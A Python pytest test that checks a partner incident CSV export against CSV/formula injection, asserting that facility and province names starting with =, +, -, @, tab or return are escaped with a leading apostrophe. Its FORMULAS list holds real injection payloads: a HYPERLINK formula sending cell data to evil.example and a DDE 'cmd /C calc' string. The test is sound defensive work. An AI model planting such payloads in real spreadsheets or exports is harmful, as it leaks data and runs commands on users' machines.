"""CSV injection through the partner export (second adversarial pass). A coordinator names a
facility, or its province, like a spreadsheet formula; incidents at that facility carry those
names into the partner's CSV export, which partners open in Excel or LibreOffice. No cell of
the export may start like a formula: it is kept as text with a leading apostrophe, as the map's
export and the facility comparison already do."""
from __future__ import annotations

import csv
import io

import pytest

from tests import factories
from tests.integration.partner import helpers

CSV = "/api/partner/v1/exports/incidents.csv"
FORMULAS = ['=HYPERLINK("https://evil.example/?"&A3,"open")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\tTab", "\rReturn"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_partner_csv_cell_starts_like_a_formula(client, session, formula):
    facility = factories.facility(session, name=formula, admin1=formula)
    helpers.incident(session, facility=facility)
    _, headers = helpers.partner(session, location_precision="exact")
    response = client.get(CSV, headers=headers)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
    header = rows[0]
    data = [dict(zip(header, row)) for row in rows[2:]]  # row 2: the HXL tags
    assert len(data) == 1
    assert data[0]["facility_name"] == "'" + formula
    assert data[0]["admin1"] == "'" + formula
    for row in data:
        for name, value in row.items():
            assert value[:1] not in ("=", "+", "@", "\t", "\r") and \
                not (value[:1] == "-" and name not in ("lat", "lon")), (name, value)
